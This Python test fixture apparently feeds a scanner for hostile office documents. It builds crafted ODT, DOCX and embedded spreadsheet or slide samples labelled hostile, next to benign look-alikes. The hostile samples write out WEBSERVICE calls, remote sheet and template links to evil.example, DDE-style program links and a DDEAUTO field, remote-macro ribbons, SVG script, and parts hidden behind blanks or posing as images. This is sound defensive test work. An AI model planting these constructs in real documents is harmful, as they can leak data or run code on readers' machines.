"""A third round: sheets and slides within documents, buttons in the ribbon, and parts that hide what they are."""

from tests.integrations.file_samples import WORD, archive, content_types, docx, odt, relationships
from tests.integrations.office_corpus.docx_parts import W_NAMES, drawing, part
from tests.integrations.office_corpus.docx_parts import field as docx_field
from tests.integrations.office_corpus.embedded_files import pptx, within, xlsx
from tests.integrations.office_corpus.table import ACTIVE, EMBEDDED, MACROS, NOTHING, REMOTE, Honest, Hostile

_OFFICE = "urn:oasis:names:tc:opendocument:xmlns"
_RIBBON = 'xmlns="http://schemas.microsoft.com/office/2006/01/customui"'
_BLANKS = " " * 5_000


def _sheet(inner: str) -> bytes:
    """An ODT with a sheet as an inner object."""
    names = f'xmlns:office="{_OFFICE}:office:1.0" xmlns:table="{_OFFICE}:table:1.0" xmlns:calcext="urn:calcext"'
    content = f"<office:document-content {names}>{inner}</office:document-content>"
    return odt({"Object 1/content.xml": content}, body='<draw:object xlink:href="./Object 1"/>')


def _cell(formula: str) -> bytes:
    return _sheet(f'<table:table-cell table:formula="of:={formula}"/>')


def _ribbon(inner: str, attributes: str = "") -> bytes:
    return docx({"customUI/customUI.xml": f"<customUI {_RIBBON} {attributes}>{inner}</customUI>"})


def _extended(element: str) -> bytes:
    """A DOCX with a sheet whose connection is described by an extension of Excel 2013."""
    inner = f'<x15:connection id="a"><x15:{element} connection="Data Source=http://evil.example"/></x15:connection>'
    connection = (
        f'<connection id="1" refreshOnLoad="1"><extLst><ext xmlns:x15="x15">{inner}</ext></extLst></connection>'
    )
    return within(xlsx({"xl/connections.xml": f"<connections>{connection}</connections>"}))


def _undeclared(part_of_it: str, content: str) -> bytes:
    """A DOCX with a part that calls itself a picture."""
    types = content_types(("/word/document.xml", f"{WORD}.document.main+xml"), (f"/{part_of_it}", "image/png")).replace(
        "application/vnd.openxmlformats-package.relationships+xml", "image/png"
    )
    return archive(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relationships(("officeDocument", "word/document.xml", False)),
            "word/document.xml": f"<w:document {W_NAMES}><w:body><w:p/></w:body></w:document>",
            part_of_it: content,
        }
    )


HOSTILE: Hostile = {
    "odt: named formula that asks the web": (
        _sheet('<table:named-expression table:expression="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>'),
        ACTIVE,
    ),
    "odt: format by a formula that asks the web": (
        _sheet('<calcext:condition calcext:value="formula-is(WEBSERVICE(&quot;http://evil.example&quot;)=1)"/>'),
        ACTIVE,
    ),
    "odt: formula with a sheet of the web": (_cell("['http://evil.example/x.ods'#$Sheet1.A1]"), ACTIVE),
    "odt: formula with a sheet of a share": (_cell("['smb://evil.example/x.ods'#$Sheet1.A1]"), ACTIVE),
    "odt: formula with a sheet of a share, by its path": (_cell(r"['\\evil.example\x.ods'#$Sheet1.A1]"), ACTIVE),
    "odt: formula with a sheet of a server, in code": (_cell("['file:%2f%2fevil.example/x.ods'#$Sheet1.A1]"), ACTIVE),
    "odt: cells of a server": (
        _sheet("<table:named-range table:cell-range-address=\"'file://evil.example/x.ods'#$A.A1\"/>"),
        ACTIVE,
    ),
    "odt: data of a database on a server": (
        _sheet('<table:database-source-table table:database-name="//evil.example/x.odb"/>'),
        REMOTE,
    ),
    "odt: schema of a form on a server": (
        odt(body='<xforms:model xmlns:xforms="http://www.w3.org/2002/xforms" schema="//evil.example/x.xsd"/>'),
        REMOTE,
    ),
    "embedded: formula behind a sheet with a quote in its name": (
        within(xlsx(formula="'a&quot;'!A1+WEBSERVICE(&quot;http://evil.example&quot;)")),
        ACTIVE,
    ),
    "embedded: formula with a sheet of a share": (
        within(xlsx(formula=r"'\\evil.example\share\[x.xlsx]Sheet'!A1")),
        ACTIVE,
    ),
    "embedded: link to a program in quotes": (within(xlsx(formula="'cmd'|'/c x'!A1")), ACTIVE),
    "embedded: link to a program behind a sheet": (within(xlsx(formula="'a|b'!A1+cmd|'/c x'!A1")), ACTIVE),
    "embedded: database in an extension": (_extended("oledbPr"), ACTIVE),
    "embedded: feed in an extension": (_extended("dataFeedPr"), ACTIVE),
    "embedded: link under the mouse in slides": (
        within(
            pptx(
                {
                    "ppt/slides/s.xml": '<a><cNvPr><hlinkHover r:id="r0" xmlns:r="r"/></cNvPr></a>',
                    "ppt/slides/_rels/s.xml.rels": relationships(("hyperlink", "http://evil.example", True)),
                }
            )
        ),
        ACTIVE,
    ),
    "docx: ribbon that loads macros of the web": (_ribbon("", 'onLoad="https://evil.example/a.dotm!Start"'), MACROS),
    "docx: button in the ribbon with a macro": (
        _ribbon('<ribbon><tabs><tab id="a"><group id="b"><button id="c" onAction="Go"/></group></tab></tabs></ribbon>'),
        MACROS,
    ),
    "docx: relations behind blanks that call themselves a picture": (
        _undeclared(
            "word/_rels/document.xml.rels",
            _BLANKS + relationships(("attachedTemplate", "http://evil.example/x.dotm", True)),
        ),
        REMOTE,
    ),
    "docx: DDE behind blanks in a header that calls itself a picture": (
        _undeclared("word/header1.png", _BLANKS + part(docx_field("DDEAUTO x"))),
        ACTIVE,
    ),
    "docx: script behind blanks in a drawing": (
        docx({"word/media/a.svg": _BLANKS + drawing("<script>x()</script>")}),
        ACTIVE,
    ),
}

HONEST: Honest = {
    "embedded: sheets with bars in their names": (within(xlsx(formula="'Pass|Fail'!A1+'Kim''s|x'!B2")), EMBEDDED),
    "embedded: name of cells on a sheet with a bar": (
        within(xlsx({"xl/names.xml": "<definedName>'Pass|Fail'!$A$1:$B$9</definedName>"})),
        EMBEDDED,
    ),
    "embedded: text about functions and addresses": (
        within(xlsx(formula="&quot;WEBSERVICE(1), 'http://example.org/a'!A1&quot;")),
        EMBEDDED,
    ),
    "odt: formula with a sheet of one's own drive": (_cell("['file:///home/kim/x.ods'#$Sheet1.A1]"), NOTHING),
    "odt: text about functions": (_cell("&quot;DDE(1) 'http://example.org/a'&quot;"), NOTHING),
    "odt: formula with an address to click": (_cell("HYPERLINK(&quot;https://www.gov.uk/&quot;)"), NOTHING),
    "odt: list of literature in a database": (
        odt(body='<text:database-display text:database-name="Bibliography"/>'),
        NOTHING,
    ),
    "odt: condition of a cell": (
        _sheet(
            '<calcext:condition calcext:value="between(0,100)"/><table:named-range '
            'table:base-cell-address="$Sheet1.$A$1" table:cell-range-address="$Sheet1.$A$1:.$B$9"/>'
        ),
        NOTHING,
    ),
    "docx: ribbon without macros": (
        _ribbon('<ribbon><tabs><tab idMso="TabHome" visible="true" getting="1"/></tabs></ribbon>'),
        NOTHING,
    ),
    "docx: reference manager": (
        docx(body=docx_field("ADDIN ZOTERO_ITEM CSL_CITATION {&quot;uris&quot;:[&quot;http://zotero.org/1&quot;]}")),
        NOTHING,
    ),
    "docx: settings of a printer that begin with nothing": (
        docx({"word/printerSettings/p1.bin": bytes(5_000) + b"\x01\x02"}),
        NOTHING,
    ),
}
